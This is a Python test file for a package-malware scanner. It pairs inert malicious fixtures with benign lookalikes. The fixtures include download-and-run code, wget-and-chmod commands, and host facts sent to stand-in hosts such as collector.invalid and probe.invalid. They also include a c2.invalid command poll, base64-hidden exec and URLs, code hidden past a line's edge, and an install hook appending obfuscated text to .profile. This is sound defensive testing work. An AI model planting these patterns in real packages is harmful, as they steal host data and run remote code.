"""Rules added for payloads that run only when called, data that flows between modules of a
package, code past the parsing budget, hidden addresses and code past a line's edge.

Each rule has an inert positive (made-up or reserved addresses) and a dual-use negative: what
an honest downloader, installer, client or terminal library does."""

from warden.checks.base import Classification
from warden.checks.builtin import common
from warden.checks.builtin.import_code import ImportTimeCode
from warden.checks.builtin.install_code import InstallTimeCode
from warden.checks.builtin.obfuscation import Obfuscation

from .helpers import flagged, scan, sdist, wheel

# --- run on use: a downloaded program started --------------------------------------------


def test_function_that_downloads_a_program_and_starts_it_is_malicious():
    dist = wheel({"demo/__init__.py": "from .core import run\n", "demo/core.py": """
import subprocess, requests

def run():
    response = requests.get("https://files.invalid/tool.exe", stream=True)
    with open("tool.exe", "wb") as out:
        for chunk in response.iter_content(chunk_size=8192):
            out.write(chunk)
    subprocess.Popen(["tool.exe"])
"""})
    verdict = scan(ImportTimeCode, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert "download-and-run" in {e.rule for e in verdict.evidence}


def test_with_urlopen_as_response_written_and_run_is_malicious():
    dist = wheel({"demo/fetch.py": """
import subprocess, urllib.request

def go(url):
    with urllib.request.urlopen(url) as response:
        with open("s.vbs", "wb") as out:
            out.write(response.read())
    subprocess.run(["cscript", "s.vbs"])
"""})
    assert scan(ImportTimeCode, dist).classification is Classification.MALICIOUS


def test_driver_installer_that_downloads_and_queries_a_version_is_clean():
    # chromedriver-autoinstaller's shape: download an archive, unpack it, and (elsewhere in
    # the module) ask the installed browser for its version.
    dist = wheel({"demo/utils.py": """
import io, subprocess, zipfile, urllib.request

def browser_version():
    return subprocess.check_output(["google-chrome", "--version"]).decode()

def download(url, path):
    archive = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(url).read()))
    archive.extractall(path)
"""})
    assert not flagged(scan(ImportTimeCode, dist))


# --- run on use: a command that fetches and runs ------------------------------------------


def test_function_that_runs_wget_and_chmod_is_malicious():
    dist = wheel({"demo/processor.py": """
import subprocess

def start(name):
    subprocess.run(f"wget -qO /tmp/{name} https://files.invalid/bin && chmod +x /tmp/{name}",
                   shell=True)
"""})
    verdict = scan(ImportTimeCode, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert "fetch-and-run" in {e.rule for e in verdict.evidence}


def test_function_that_runs_git_or_a_compiler_is_clean():
    dist = wheel({"demo/build.py": """
import subprocess

def build(source):
    subprocess.run(["gcc", "-O2", source], check=True)
    subprocess.run(["git", "describe", "--tags"], check=True)
    subprocess.run(["curl", "--version"], check=True)
"""})
    assert not flagged(scan(ImportTimeCode, dist))


# --- run on use: who the host is, sent to a fixed address --------------------------------


def test_function_that_sends_user_and_host_name_to_a_fixed_host_is_flagged():
    dist = wheel({"demo/hooks.py": """
import getpass, socket, http.client

def report():
    conn = http.client.HTTPConnection("collector.invalid")
    conn.request("GET", "/?u=" + getpass.getuser() + "&h=" + socket.gethostname())
"""})
    assert flagged(scan(ImportTimeCode, dist))


def test_client_that_picks_a_download_by_platform_is_clean():
    # pipx's standalone-python shape: platform.system() chooses a release to fetch.
    dist = wheel({"demo/standalone.py": """
import platform, urllib.request

def latest():
    system = platform.system().lower()
    return urllib.request.urlopen("https://api.github.invalid/releases/" + system).read()
"""})
    assert not flagged(scan(ImportTimeCode, dist))


# --- data flow between modules ------------------------------------------------------------


def test_blob_imported_from_another_module_decoded_and_run_is_malicious():
    dist = wheel({"demo/__init__.py": "from . import app\n",
                  "demo/constants.py": "string = 'cHJpbnQoMSk='\n",
                  "demo/app.py": """
import base64
from demo.constants import string
exec(base64.b64decode(string))
"""})
    assert scan(ImportTimeCode, dist).classification is Classification.MALICIOUS


def test_code_read_from_the_environment_decoded_and_run_is_not_a_carried_blob():
    dist = wheel({"demo/boot.py": """
import base64
from os import environ
exec(base64.b64decode(environ["BOOTSTRAP"]))
"""})
    assert scan(ImportTimeCode, dist).classification is not Classification.MALICIOUS


def test_methods_called_on_load_through_an_instance_are_load_time_code():
    dist = wheel({"demo/__init__.py": """
import platform, subprocess
from urllib import request

class Client:
    def get(self, url):
        return request.urlopen(request.Request(url + platform.node())).read()

client = Client()
command = client.get("http://c2.invalid/poll")
subprocess.Popen(command, shell=True)
"""})
    assert scan(ImportTimeCode, dist).classification is Classification.MALICIOUS


def test_method_of_an_instance_not_called_on_load_stays_run_time():
    dist = wheel({"demo/__init__.py": """
from urllib import request

class Client:
    def get(self, url):
        return request.urlopen(url).read()

client = Client()
client.configure = True
"""})
    assert not flagged(scan(ImportTimeCode, dist))


# --- past the parsing budget ----------------------------------------------------------------


def test_module_level_payload_in_a_file_past_the_budget_is_found(monkeypatch):
    monkeypatch.setattr(common, "PARSE_BUDGET", 1_000)
    filler = "".join(f"def f{i}(x):\n    return x + {i}\n" for i in range(200))
    dist = wheel({"demo/__init__.py": filler + """
r = requests.get("http://drop.invalid/stage2")
os.system("start stage2")
"""})
    assert scan(ImportTimeCode, dist).classification is Classification.MALICIOUS


def test_large_client_whose_calls_are_indented_or_documented_is_clean(monkeypatch):
    monkeypatch.setattr(common, "PARSE_BUDGET", 1_000)
    filler = "".join(f"def f{i}(url):\n    return requests.get(url)\n" for i in range(200))
    dist = wheel({"demo/__init__.py": '"""\nrequests.get("https://example.invalid")\n"""\n'
                  + filler + '#os.system("x")\n'})
    assert not flagged(scan(ImportTimeCode, dist))


# --- install time: DNS and ping as a way out ----------------------------------------------


def test_setup_that_pings_out_with_host_facts_is_malicious():
    dist = sdist({"setup.py": """
import socket, subprocess
from setuptools import setup
host = socket.gethostname()
subprocess.getoutput(f"ping -c1 {host}.probe.invalid")
subprocess.Popen(["dig", "+short", f"{host}.probe.invalid"])
setup(name="demo")
"""})
    assert scan(InstallTimeCode, dist).classification is Classification.MALICIOUS


def test_setup_that_runs_pkg_config_is_clean():
    dist = sdist({"setup.py": """
import subprocess
from setuptools import setup
flags = subprocess.check_output(["pkg-config", "--cflags", "libcurl"]).decode()
setup(name="demo")
"""})
    assert not flagged(scan(InstallTimeCode, dist))


def test_setup_that_starts_a_file_it_wrote_is_malicious():
    dist = sdist({"setup.py": """
import os
from setuptools import setup
target = os.getenv("APPDATA") + "/demo/run.cmd"
with open(target, "w") as out:
    out.write("start demo.py")
os.startfile(target)
setup(name="demo")
"""})
    assert scan(InstallTimeCode, dist).classification is Classification.MALICIOUS


def test_image_viewer_that_opens_a_file_when_asked_is_clean():
    # Pillow's ImageShow: os.startfile in a function callers call.
    dist = wheel({"demo/show.py": """
import os, sys

def show(path):
    if sys.platform == "win32":
        os.startfile(path)
"""})
    assert not flagged(scan(ImportTimeCode, dist))


def test_setup_that_writes_out_a_hidden_text_is_flagged():
    dist = sdist({"setup.py": """
from setuptools import setup
from setuptools.command.install import install

class Install(install):
    def run(self):
        text = ''.join([chr(((ord(c) - 45) % 95) + 32) for c in
                        "p# y-:!-:Y-u}!G<< n%;tv p# y-:!-:Y-u}!G<< n%;tv p# y-:!-:Y-u"])
        with open("/home/user/.profile", "a") as out:
            out.write(text)
        install.run(self)

setup(name="demo", cmdclass={"install": Install})
"""})
    assert flagged(scan(InstallTimeCode, dist))


def test_setup_that_writes_a_version_file_is_clean():
    dist = sdist({"setup.py": """
from setuptools import setup
with open("demo/_version.py", "w") as out:
    out.write("__version__ = '1.0'\\n")
setup(name="demo")
"""})
    assert not flagged(scan(InstallTimeCode, dist))


# --- hidden addresses and code past the edge ------------------------------------------------


def test_base64_web_address_that_is_posted_to_is_malicious():
    dist = wheel({"demo/client.py": """
import base64, requests

def send(data):
    requests.post(url=base64.b64decode('aHR0cHM6Ly9jb2xsZWN0b3IuaW52YWxpZC94').decode(), json=data)
"""})
    verdict = scan(Obfuscation, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert "hidden-url" in {e.rule for e in verdict.evidence}


def test_web_address_with_base64_in_its_path_is_clean():
    # youtube-dl's test URLs carry base64 in the path; a certificate holds it mid-blob.
    dist = wheel({"demo/extractor.py": """
import base64
_TEST = {'url': 'https://podcasts.invalid/feed/aHR0cHM6Ly9mZWVkcy5ucHIub3Jn'}
CERT = '''MIIB...BCcwJTAjBggrBgEFBQcwAYYXaHR0cDovL29jc3AuZ29kYWRkeS5jb20wRgYDVR0f'''
def decode(text):
    return base64.b64decode(text)
"""})
    assert not flagged(scan(Obfuscation, dist))


def test_code_pushed_past_the_edge_of_a_line_is_malicious():
    dist = wheel({"demo/fernet.py": 'type("x")' + " " * 300
                  + ';import os;os.system("echo hidden")\n'})
    assert scan(Obfuscation, dist).classification is Classification.MALICIOUS


def test_aligned_comments_and_tables_are_clean():
    dist = wheel({"demo/table.py": "VALUES = {\n    'a': 1," + " " * 40 + "# first\n}\n"
                  "x = 1" + " " * 200 + "\n"})
    assert not flagged(scan(Obfuscation, dist))


def test_exec_of_code_written_as_escaped_bytes_is_malicious():
    dist = wheel({"demo/__init__.py": "exec(b'\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29"
                  "\\x3b\\x70\\x72\\x69\\x6e\\x74\\x28\\x32\\x29\\x3b\\x70\\x72\\x69\\x6e"
                  "\\x74\\x28\\x33\\x29\\x3b\\x70\\x72\\x69\\x6e\\x74\\x28\\x34\\x29\\x3b"
                  "\\x70\\x72\\x69\\x6e\\x74\\x28\\x35\\x29')\n"})
    assert scan(ImportTimeCode, dist).classification is Classification.MALICIOUS


def test_exec_of_a_short_literal_string_is_not_hidden_code():
    # six's shape: exec of a literal written in the clear.
    dist = wheel({"demo/compat.py": 'exec("""def reraise(tp, value, tb=None):\n'
                  '    raise tp.with_traceback(tb)\n""")\n'})
    assert not flagged(scan(Obfuscation, dist))
